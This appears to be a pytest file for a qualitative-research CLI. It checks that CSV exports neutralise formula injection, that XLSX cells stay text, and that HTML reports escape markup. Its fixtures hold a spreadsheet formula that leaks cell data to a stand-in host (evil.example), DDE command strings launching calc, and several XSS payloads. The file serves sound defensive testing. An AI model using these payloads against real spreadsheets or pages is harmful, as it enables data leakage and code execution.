"""Safe spreadsheets and pages: formula-like text in every CSV export is neutralised
the way OWASP recommends (numbers stay numbers, a setting turns it off), XLSX text
cells stay text, and the HTML report escapes markup and script in every field."""

from __future__ import annotations

import csv
import html
import io
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner

from qualcode.cli import cli
from qualcode.exporters.csvsafe import safe_cell
from qualcode.store import open_project

DOC = "wawancara_01_pedagang_pasar"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-A1", "'-A1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.25", "-0.25"),  # a number written as text stays a number
        ("+3", "+3"),
        ("-12,5%", "-12,5%"),
        (-0.25, -0.25),  # a negative kappa
        (3, 3),
        ("", ""),
        (None, None),
        ("antre = lama", "antre = lama"),
        ("- a dash list", "'- a dash list"),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written
    assert safe_cell(value, raw=True) == value


@pytest.fixture
def hostile(demo_dir: Path) -> Path:
    """The demo project with formula-like and markup text in every name and text field."""
    with open_project(str(demo_dir), coder="=cmd|'/C calc'!A0") as p:
        p.codes.update_code("cost", label=FORMULAS[0], description='<script>alert("desc")</script>')
        coding, _ = p.codings.apply_coding(
            DOC, "cost", 10, 40, memo="@SUM(1)<img src=x onerror=alert(1)>"
        )
        p.codings.apply_coding(DOC, "time", 50, 80)
        p.review.review_coding(coding.guid, "disputed", "+cmd <b>bold</b> comment")
        p.cases.link_case("-case<script>alert('case')</script>", DOC)
        p.cases.set_attribute(
            "-case<script>alert('case')</script>", "=occupation", "@trader<svg onload=alert(1)>"
        )
        p.memos.add_memo("document", DOC, "=memo <iframe src=javascript:alert(1)>")
    con = sqlite3.connect(demo_dir / "qualcode.db")
    con.execute(
        "UPDATE documents SET name = ? WHERE name = ?",
        ("=DOC</td><script>alert('doc')</script>", DOC),
    )
    con.execute(
        "UPDATE codings SET quote = ? WHERE memo IS NOT NULL",
        ("-quote <script>alert('quote')</script>",),
    )
    con.commit()
    con.close()
    return demo_dir


def _cells(path: Path) -> list[str]:
    rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
    return [c for r in rows for c in r]


EXPORTS = [
    ["export", "frequency", "-o", "{d}/frequency.csv"],
    ["export", "quotes", "--format", "csv", "-o", "{d}/quotes.csv"],
    ["export", "segments", "--format", "csv", "-o", "{d}/segments.csv"],
    ["export", "memos", "--format", "csv", "-o", "{d}/memos.csv"],
    ["export", "appendix", "--format", "csv", "-o", "{d}/appendix.csv"],
    ["export", "cooccurrence", "--format", "csv", "-o", "{d}/cooccurrence.csv"],
    ["words", "-o", "{d}/words.csv"],
    ["kwic", "antre", "-o", "{d}/kwic.csv"],
]


@pytest.mark.parametrize("argv", EXPORTS, ids=lambda a: a[1] if a[0] == "export" else a[0])
def test_no_csv_cell_starts_a_formula(hostile: Path, tmp_path: Path, argv: list[str]) -> None:
    args = [a.format(d=tmp_path) for a in argv]
    r = CliRunner().invoke(cli, ["--project", str(hostile), *args], prog_name="qualcode")
    assert r.exit_code == 0, r.output
    out = Path(args[-1])
    cells = _cells(out)
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert safe_cell(cell) == cell, f"{out.name}: a formula cell {cell!r}"


def test_the_hostile_text_is_there_neutralised(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "segments.csv"
    r = CliRunner().invoke(
        cli,
        ["--project", str(hostile), "export", "segments", "--format", "csv", "-o", str(out)],
        prog_name="qualcode",
    )
    assert r.exit_code == 0, r.output
    cells = _cells(out)
    assert "'" + FORMULAS[0] in cells
    assert "'=cmd|'/C calc'!A0" in cells  # the coder


def test_the_setting_writes_csv_as_it_is(
    hostile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "segments.csv"
    argv = ["--project", str(hostile), "export", "segments", "--format", "csv", "-o", str(out)]
    monkeypatch.setenv("QUALCODE_RAW_CSV", "1")
    assert CliRunner().invoke(cli, argv, prog_name="qualcode").exit_code == 0
    assert FORMULAS[0] in _cells(out)
    monkeypatch.delenv("QUALCODE_RAW_CSV")
    config = Path(str(__import__("os").environ["QUALCODE_CONFIG_DIR"]))
    config.mkdir(parents=True, exist_ok=True)
    (config / "settings.yaml").write_text("raw_csv: true\n", encoding="utf-8")
    assert CliRunner().invoke(cli, argv, prog_name="qualcode").exit_code == 0
    assert FORMULAS[0] in _cells(out)


def test_agreement_csv_keeps_a_negative_kappa_a_number(demo_dir: Path, tmp_path: Path) -> None:
    with open_project(str(demo_dir), coder="ani") as p:
        p.codings.apply_coding(DOC, "cost", 0, 50)
        p.team.mark_done(DOC)
    with open_project(str(demo_dir), coder="budi") as p:
        p.codings.apply_coding(DOC, "cost", 50, 300)
        p.team.mark_done(DOC)
    r = CliRunner().invoke(
        cli,
        ["--project", str(demo_dir), "agreement", "--coders", "ani", "budi", "--format", "csv"],
        prog_name="qualcode",
    )
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(r.stdout)))
    kappa = rows[1][rows[0].index("cohen_kappa")] if "cohen_kappa" in rows[0] else None
    negative = [c for row in rows[1:] for c in row if c.startswith("-")]
    assert negative, rows  # these coders disagree more than chance
    for c in negative:
        float(c)  # every negative cell is a plain number, not a neutralised one
    assert kappa is None or not kappa.startswith("'")


def test_xlsx_text_cells_stay_text(hostile: Path, tmp_path: Path) -> None:
    import openpyxl

    for argv in (
        ["export", "quotes", "--format", "xlsx", "-o", str(tmp_path / "q.xlsx")],
        ["export", "all", "--format", "xlsx", "-o", str(tmp_path / "all.xlsx")],
        ["words", "-o", str(tmp_path / "w.xlsx")],
    ):
        r = CliRunner().invoke(cli, ["--project", str(hostile), *argv], prog_name="qualcode")
        assert r.exit_code == 0, r.output
        book = openpyxl.load_workbook(argv[-1])
        texts = 0
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{argv[-1]}: a formula in {cell.coordinate}"
                    if isinstance(cell.value, str) and cell.value.startswith(("=", "@", "+")):
                        texts += 1
        if argv[1] in ("quotes", "all"):
            assert texts, f"{argv[-1]}: the hostile text is missing"


def test_xlsx_agreement_text_stays_text(demo_dir: Path, tmp_path: Path) -> None:
    import openpyxl

    con = sqlite3.connect(demo_dir / "qualcode.db")
    # the passage the two coders disagree on (from character 30) starts like a formula
    con.execute(
        "UPDATE documents SET text = substr(text, 1, 30) || '=HYPERLINK(\"x\")' || "
        "substr(text, 46) WHERE name = ?",
        (DOC,),
    )
    con.commit()
    con.close()
    for who, span in (("ani", (0, 30)), ("budi", (0, 60))):
        with open_project(str(demo_dir), coder=who) as p:
            p.codings.apply_coding(DOC, "cost", *span)
            p.team.mark_done(DOC)
    out = tmp_path / "agreement.xlsx"
    r = CliRunner().invoke(
        cli,
        ["--project", str(demo_dir), "agreement", "--coders", "ani", "budi", "--format", "xlsx",
         "-o", str(out)],
        prog_name="qualcode",
    )  # fmt: skip
    assert r.exit_code == 0, r.output
    book = openpyxl.load_workbook(out)
    quotes = [
        c.value
        for row in book["Disagreements"].iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith("=")
    ]
    assert quotes, "the quote starting with = is missing"
    for row in book["Disagreements"].iter_rows():
        for c in row:
            assert c.data_type != "f"


PAYLOADS = [
    '<script>alert("desc")</script>',
    "<img src=x onerror=alert(1)>",
    "<b>bold</b>",
    "<script>alert('case')</script>",
    "<svg onload=alert(1)>",
    "</td><script>alert('doc')</script>",
    "<script>alert('quote')</script>",
    "<iframe src=javascript:alert(1)>",
]


def test_the_html_report_escapes_every_field(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    r = CliRunner().invoke(
        cli,
        ["--project", str(hostile), "report", "-o", str(out), "--by", "case"],
        prog_name="qualcode",
    )
    assert r.exit_code == 0, r.output
    page = out.read_text(encoding="utf-8")
    for payload in PAYLOADS:
        assert payload not in page, payload
    # the report's own script is the only one
    assert page.count("<script>") == 1
    assert html.escape("</td><script>alert('doc')</script>", quote=True) in page
    assert html.escape("-quote <script>alert('quote')</script>", quote=True) in page
    assert html.escape(FORMULAS[0], quote=True) in page
